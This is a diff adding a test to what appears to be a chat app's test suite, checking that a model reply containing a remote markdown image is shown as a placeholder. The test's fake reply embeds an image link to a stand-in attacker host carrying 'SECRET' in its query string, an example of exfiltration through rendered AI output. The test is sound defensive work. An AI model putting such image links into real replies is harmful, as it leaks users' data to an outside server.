@@ -236,3 +236,10 @@ def test_a_blank_or_oversized_message_is_refused_before_any_call(at, server):
     assert "tokens, more than the 7,168 that echo-1 can take" in sentence and "Traceback" not in sentence
     assert at.chat_input[0].value == huge or at.session_state.chat_box == huge  # the text is kept to edit
     assert messages(at) == []  # nothing half-sent, nothing stored
+
+
+def test_a_reply_with_a_remote_image_shows_a_placeholder_not_an_image(at, server):
+    server.push(Script(reply="Here you go ![pixel](https://attacker.example/p.png?q=SECRET) done"))
+    send(at, "show me")
+    shown = at.chat_message[1].markdown[0].value
+    assert "image not loaded" in shown and "![pixel](" not in shown and "attacker.example" in shown
